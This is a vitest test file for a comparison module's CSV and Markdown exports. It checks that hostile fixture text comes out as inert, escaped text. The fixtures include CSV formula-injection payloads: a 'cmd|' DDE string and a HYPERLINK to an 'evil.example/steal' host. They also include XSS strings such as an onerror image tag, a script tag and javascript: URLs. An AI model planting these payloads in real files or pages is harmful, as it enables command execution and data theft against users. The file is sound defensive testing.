import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startsLikeFormula, toMarkdown } from '../../../server/src/modules/comparison/comparison.export.js';
import { createTestDatabase, type TestDatabase } from '../../support/database.js';
import { startTestServer, type TestServer } from '../../support/http.js';
import { comparisonFixtureFile, importFiles, importSeeds } from './helpers.js';

// A case whose names read as spreadsheet formulas, HTML and Markdown (the "hostile" fixture), and a
// source whose URL is `javascript:alert(1)` (written straight into the table, as data stored before
// URLs were checked would be): the CSV and Markdown exports must carry them as inert text.
let db: TestDatabase;
let server: TestServer;

beforeAll(async () => {
  db = await createTestDatabase();
  await importSeeds(db.dataSource, ['northern-ireland']);
  await importFiles(db.dataSource, [comparisonFixtureFile('hostile')]);
  await db.dataSource.query(`UPDATE source SET url = 'javascript:alert(1)' WHERE url = $1`, [
    'https://example.org/hostile/script',
  ]);
  server = await startTestServer(db.dataSource);
});

afterAll(async () => {
  await server?.close();
  await db?.drop();
});

async function get(path: string): Promise<{ status: number; text: string }> {
  const response = await fetch(`${server.url}${path}`);
  return { status: response.status, text: (await response.text()).replace(/^\uFEFF/, '') };
}

/** RFC 4180 fields, quoted or not, CRLF records. */
function parseCsv(text: string): { value: string; quoted: boolean }[][] {
  const records: { value: string; quoted: boolean }[][] = [];
  let record: { value: string; quoted: boolean }[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    let quoted = false;
    if (text[i] === '"') {
      quoted = true;
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (text[i] === '"') {
          i += 1;
          break;
        } else value += text[i++];
      }
    } else while (i < text.length && text[i] !== ',' && text[i] !== '\r') value += text[i++];
    record.push({ value, quoted });
    if (text[i] === ',') i += 1;
    else if (text.slice(i, i + 2) === '\r\n') {
      records.push(record);
      record = [];
      i += 2;
    } else throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  return records;
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV export of formula-like text', () => {
  it('escapes a section title in Markdown like any other text', () => {
    const markdown = toMarkdown(
      {
        cases: [
          { index: 0, selector: 'a', baseline: false, caseStudy: { slug: 'a', name: 'A' }, period: { label: 'now' } },
        ],
        sections: [{ kind: 'GOVERNANCE', title: '<img src=x onerror=alert(1)> [x](javascript:alert(1))', rows: [] }],
        timeline: [],
        commonApproaches: [],
      },
      { sections: ['governance'], differencesOnly: false },
    );
    const heading = markdown
      .split('\n')
      .find((line) => line.startsWith('## ') && line !== '## What they have in common')!;
    expect(heading).toBe(String.raw`## \<img src=x onerror=alert(1)\> \[x\](javascript:alert(1))`);
  });

  it('takes full-width signs, and signs behind leading white space, for a formula too', () => {
    for (const text of [' =1+1', '\u00a0=1+1', '\u3000+1', '＝1+1', '＋1', '－1', '＠SUM(A1)', '\n=1', '\tx', '\rx'])
      expect(startsLikeFormula(text), JSON.stringify(text)).toBe(true);
    for (const text of ['1 = 1', 'a-b', 'e@mail', '(uncertain)', '', 'Ministry'])
      expect(startsLikeFormula(text), JSON.stringify(text)).toBe(false);
  });

  it("starts no cell with = + - @ tab or CR: such cells get a leading ' and are quoted", async () => {
    const r = await get('/export/comparison.csv?cases=hostile,northern-ireland');
    expect(r.status).toBe(200);
    const fields = parseCsv(r.text).flat();
    for (const f of fields) expect(f.value, f.value).not.toMatch(FORMULA_START);
    const neutralised = fields.filter((f) => f.value.startsWith("'"));
    for (const f of neutralised) expect(f.quoted, f.value).toBe(true);
    const values = fields.map((f) => f.value);
    // Each hostile text is there, whole, behind its apostrophe.
    expect(values).toContain(`'=HYPERLINK("https://evil.example/steal","click")`);
    expect(values.some((v) => v.startsWith("'+1 government"))).toBe(true);
    expect(values).toContain("'-2 ministry (national tier, ministry)");
    expect(values).toContain("'+1 government (national tier) [-2 ministry (ministry)]");
    expect(values).toContain("'-2 ministry, ministry: children's social work and care.");
    expect(values.some((v) => v.startsWith("'@SUM(A1:A9)"))).toBe(true);
    expect(values.some((v) => v.startsWith("'@SUM(1+1)*cmd|' /C calc'!A0"))).toBe(true);
    expect(values).toContain("'\t=1+2 after a tab: A lesson whose title starts with a tab.");
    expect(r.text).toContain(`"'=HYPERLINK(""https://evil.example/steal"",""click"")"`);
    // A text with such a character later on is left as it is.
    expect(values.some((v) => v.startsWith('Hostile <b>case</b> (baseline): =HYPERLINK('))).toBe(true);
  });
});

describe('Markdown export of HTML- and Markdown-like text', () => {
  it('shows tags as text, escapes link, image and heading syntax, and links only http(s) sources', async () => {
    const r = await get('/export/comparison.md?cases=hostile,northern-ireland');
    expect(r.status).toBe(200);
    const md = r.text;
    // Every < is escaped, or opens an http(s) autolink.
    for (const m of md.matchAll(/(?<!\\)</g)) expect(md.slice(m.index, m.index + 9)).toMatch(/^<https?:\/\//);
    expect(md).toContain('\\<script\\>alert(1)\\</script\\>');
    expect(md).toContain('Hostile \\<b\\>case\\</b\\>');
    expect(md).toContain('The \\<img src=x onerror=alert(1)\\> Act');
    // No unescaped [text](…) or ![…](…) in any user text.
    expect(md).not.toMatch(/(?<!\\)\]\(/);
    expect(md).toContain('\\[x\\](javascript:alert(1))');
    expect(md).toContain('\\# Not a heading \\!\\[img\\](javascript:alert(1))');
    // The javascript: source is listed as text, not as a link.
    expect(md).not.toContain('<javascript:');
    const sources = md.slice(md.indexOf('## Sources'));
    expect(sources).toMatch(
      /^\d+\. A source whose URL is rewritten to javascript\. javascript:alert\(1\) \(official\)$/m,
    );
    expect(sources).toContain('<https://example.org/hostile/act>');
  });
});
